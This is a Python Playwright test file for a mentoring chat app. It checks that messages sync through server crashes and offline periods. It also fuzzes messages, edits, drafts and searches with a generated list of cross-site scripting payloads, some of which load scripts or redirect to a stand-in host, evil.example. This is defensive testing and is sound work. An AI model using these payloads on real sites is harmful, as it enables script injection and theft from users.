"""Two pages write to each other and change what was said, through cuts, reloads and a server that
dies; and what is written to do harm stays words."""

from __future__ import annotations

import asyncio
import random
import re

import pytest
from playwright.async_api import Browser, Locator, expect

from protocol.views import Message
from tests.browser.conftest import House
from tests.support.browser import Person
from tests.support.serving import Api

pytestmark = [pytest.mark.browser, pytest.mark.without_call]

OPENERS = ("<", '"><', "'><", "</p><", "`<", "&lt;<", "<!--><", "]]><", "\u202e<", "\\<")
PAYLOADS = (
    "img src=x onerror=alert(1)>",
    "svg/onload=alert(1)>",
    "script>alert(1)</script>",
    "script src=https://evil.example/x.js></script>",
    'a href="javascript:alert(1)">x</a>',
    "iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "body onload=alert(1)>",
    "style>@import 'https://evil.example/x.css'</style>",
    "link rel=stylesheet href=//evil.example/x.css>",
    "base href=https://evil.example/>",
    "form action=https://evil.example><button autofocus onfocus=alert(1)>",
    "math><mtext></form><mglyph><style></math><img src onerror=alert(1)>",
    "details open ontoggle=alert(1)>",
    "video><source onerror=alert(1)>",
    "input onfocus=alert(1) autofocus>",
    "object data=javascript:alert(1)>",
    "embed src=javascript:alert(1)>",
    "meta http-equiv=refresh content='0;url=https://evil.example'>",
    "template shadowrootmode=open><script>alert(1)</script></template>",
    "img srcset='https://evil.example/x 1x'>",
)
WRAPPED = (
    "{}",
    "**{}**",
    "*{}* _{}_",
    "`{}`",
    "```\n{}\n```",
    "> {}",
    "- {}\n1. {}",
    "[{}](https://a.example/)",
    "[x](javascript:alert(1)) {}",
    "[x](data:text/html,{})",
    "![{}](https://evil.example/x.png)",
    "[x](https://a.example/ onclick=alert(1)) {}",
    "<https://evil.example/{}>",
    "https://a.example/{}",
    "[x](vbscript:{}) [y](JAVASCRIPT:alert(1)) [z](java\tscript:alert(1))",
    "${{alert(1)}} {{{{constructor.constructor('alert(1)')()}}}} {}",
)


def payloads(count: int) -> list[str]:
    bare = [opener + payload for payload in PAYLOADS for opener in OPENERS]
    return [WRAPPED[n % len(WRAPPED)].replace("{}", bare[n % len(bare)]) for n in range(count)]


class Watched:
    """What a page does that it must not: opens dialogs, asks strangers, breaks its policy."""

    def __init__(self, person: Person, address: str) -> None:
        self.dialogs: list[str] = []
        self.foreign: list[str] = []
        person.page.on("dialog", self._dialog)
        person.page.on("request", lambda request: self._asked(request.url, address))

    async def _dialog(self, dialog: object) -> None:
        self.dialogs.append(str(dialog))

    def _asked(self, url: str, address: str) -> None:
        if not url.startswith((address, "data:", "blob:")):
            self.foreign.append(url)


async def conversation_of(api: Api, person: Person) -> str:
    found: str = await person.page.evaluate(
        "new Promise((done) => { const look = () => { const app ="
        " document.querySelector('ith-app')?.app; const [m] = app?.state.mentorships ?? [];"
        " m ? done(m.conversation) : setTimeout(look, 50) }; look() })"
    )
    return found


async def history(api: Api, conversation: str) -> list[Message]:
    messages: list[Message] = []
    while page := await api.messages(conversation, messages[-1].seq if messages else 0):
        messages += page
    return messages


HELD = """() => {
  const { state } = document.querySelector('ith-app').app;
  const [log] = Object.values(state.conversations);
  return log && { messages: log.messages, waits: log.pending.length + log.changes.length };
}"""


async def agrees(person: Person, wanted: list[Message]) -> None:
    """The page holds what the server has, message for message, and nothing waits."""
    told = [
        [each.seq, each.id, each.person, each.body, each.revision, each.reply_to]
        + [[[of.emoji, *of.persons] for of in each.reactions]]
        for each in wanted
    ]
    held: list[object] = []
    for _ in range(200):
        log = await person.page.evaluate(HELD)
        held = [
            [each[key] for key in ("seq", "id", "person", "body", "revision")]
            + [each.get("reply_to")]
            + [[[of["emoji"], *of["persons"]] for of in each.get("reactions", [])]]
            for each in (log or {"messages": []})["messages"]
        ]
        if log and not log["waits"] and held == told:
            return
        await asyncio.sleep(0.1)
    assert held == told


async def printed(person: Person) -> list[str]:
    """The log as it stands on the screen, from its end to its beginning, in order."""
    log = person.page.get_by_role("log")
    texts: dict[str, str] = {}
    read = """(log) => [...log.querySelectorAll('.entry:not(.waiting)')].map((e) =>
      [e.dataset.key, [...e.querySelectorAll('.bubble > :not(.quote)')]
        .map((part) => part.innerText).join('\\n')])"""
    await log.evaluate("log => { log.scrollTop = log.scrollHeight }")
    while True:
        seen = await log.evaluate(read)
        texts = {**dict(seen), **{k: v for k, v in texts.items() if k not in dict(seen)}}
        if await log.evaluate("log => log.scrollTop <= 0"):
            return list(texts.values())
        await log.evaluate("log => { log.scrollTop -= 600 }")
        await log.evaluate(
            "() => new Promise((d) => requestAnimationFrame(() => requestAnimationFrame(d)))"
        )


class Talk:
    """Someone writes, answers, changes, deletes and reacts, by hand."""

    def __init__(self, person: Person, chance: random.Random) -> None:
        self.person, self.chance = person, chance

    @property
    def own(self) -> Locator:
        return self.person.page.locator(".entry.own:not(.waiting)").filter(
            has=self.person.page.locator(".more")
        )

    async def write(self, text: str) -> None:
        await self.person.write(text)

    async def act(self, entry: Locator, name: str) -> None:
        page = self.person.page
        await entry.locator(".bubble").hover()
        await entry.get_by_role("button", name="Answer, react and more").click()
        await page.get_by_role("dialog", name="What to do").get_by_role("button", name=name).click()

    async def any_message(self) -> Locator:
        entries = self.person.page.locator(".entry:not(.waiting)").filter(
            has=self.person.page.locator(".more")
        )
        count = await entries.count()
        return entries.nth(count - 1 - self.chance.randrange(min(3, count)))


@pytest.mark.timeout(240)
async def test_whatever_is_done_and_whatever_breaks_all_agree_in_the_end(
    demo: House, mentors_browser: Browser, mentees_browser: Browser
) -> None:
    mentor = await demo.enter(mentors_browser, demo.links["mentor"])
    mentee = await demo.enter(mentees_browser, demo.links["mentee"])
    chance = random.Random(7)
    talks = [Talk(mentor, chance), Talk(mentee, chance)]
    for n, talk in enumerate(talks * 2):
        await talk.write(f"begins {n}")
    await expect(mentor.said).to_have_count(4)
    await expect(mentee.said).to_have_count(4)
    api = Api(demo.server, demo.links["mentor"])
    await api.sign_in()
    conversation = await conversation_of(api, mentor)

    async def some(talk: Talk, n: int) -> None:
        page = talk.person.page
        await talk.write(f"line {n}")
        await talk.act(await talk.any_message(), "Answer")
        await talk.write(f"answer {n}")
        await talk.act(await talk.any_message(), ("thumbs up", "heart", "idea")[n % 3])
        await talk.act(talk.own.last, "Edit")
        await page.get_by_label("Message", exact=True).fill(f"edited {n}")
        await page.get_by_role("button", name="Save").click()
        if n % 2:
            await talk.act(talk.own.first, "Delete for both")
            await page.get_by_role("button", name="Delete for both").click()

    await some(talks[0], 1)
    await some(talks[1], 2)
    await demo.server.kill()
    for n, talk in enumerate(talks, start=3):
        await some(talk, n)  # all of it waits
    place = mentor.page.url
    await mentor.page.goto("about:blank")  # what waits is kept though the page is gone
    await demo.server.start()
    await mentor.page.goto(place)
    await expect(mentor.page.get_by_role("log").locator(".waiting")).to_have_count(0)
    await some(talks[1], 5)
    await mentor.page.context.set_offline(True)
    await some(talks[0], 6)
    await mentor.page.context.set_offline(False)
    for person in (mentor, mentee):
        await expect(person.page.get_by_text("Waiting to be")).to_have_count(0)
    await api.sign_in()
    said = await history(api, conversation)
    assert [each.seq for each in said] == list(range(1, len(said) + 1))
    for person in (mentor, mentee):
        await agrees(person, said)
    gone = re.compile("^.* deleted this message$")
    shown = [None if each.deleted_us else each.body for each in said]
    for person in (mentor, mentee):
        assert [None if gone.match(text) else text for text in await printed(person)] == shown
    assert sum(each.edited_us is not None for each in said) >= 2
    assert any(each.reactions for each in said)
    assert any(each.reply_to for each in said)


@pytest.mark.timeout(240)
@pytest.mark.parametrize("count", [200, pytest.param(500, marks=pytest.mark.soak)])
async def test_what_is_written_to_do_harm_stays_words(
    house: House, mentors_browser: Browser, count: int
) -> None:
    """Payloads in messages, edits, answers, searches and drafts of one page; more than 200 at once
    wait for the limit of messages."""
    mentor = await house.enter(mentors_browser, house.links["mentor"])
    watched = Watched(mentor, house.server.address)
    page = mentor.page
    await page.get_by_label("Message", exact=True).wait_for()
    api = Api(house.server, house.links["mentor"])
    await api.sign_in()
    conversation = await conversation_of(api, mentor)
    harmful = payloads(count)
    put = """async ([conversation, bodies]) => {
      const { app } = document.querySelector('ith-app');
      const settled = () => new Promise((done) => setTimeout(done, 0));
      const log = () => app.state.conversations[conversation];
      const waits = async () => {
        while (!log() || log().pending.length + log().changes.filter((e) => !e.refused).length)
          await new Promise((done) => setTimeout(done, 20));
      };
      for (const [n, body] of bodies.entries()) {
        const last = log()?.messages.at(-1)?.seq ?? null;
        app.chat.send(conversation, body, n % 3 ? null : last);
        if (n % 5 === 0 && last) app.chat.edit(conversation, last, bodies[bodies.length - 1 - n]);
        if (n % 20 === 19) { await waits(); await settled(); }
      }
      await waits();
    }"""
    for at in range(0, len(harmful), 100):
        await page.evaluate(put, [conversation, harmful[at : at + 100]])
    assert len(await history(api, conversation)) == len(harmful)
    shown = await printed(mentor)
    assert len(shown) > 100
    for text in harmful[::50]:
        await page.get_by_label("Message", exact=True).fill(text)  # as a draft
        await page.get_by_role("button", name="Find").click()
        await page.get_by_role("searchbox").fill(text)
        await page.get_by_role("searchbox").press("Enter")
        await page.get_by_role("button", name="Stop finding").click()
    await page.get_by_role("link", name="Ithaca").click()
    await page.get_by_role("heading", name="Your mentorships").wait_for()
    assert watched.dialogs == []
    assert watched.foreign == []
    assert (
        await page.evaluate(
            "document.querySelectorAll('img, iframe, script:not([src^=\"/\"])').length"
        )
        == 0
    )
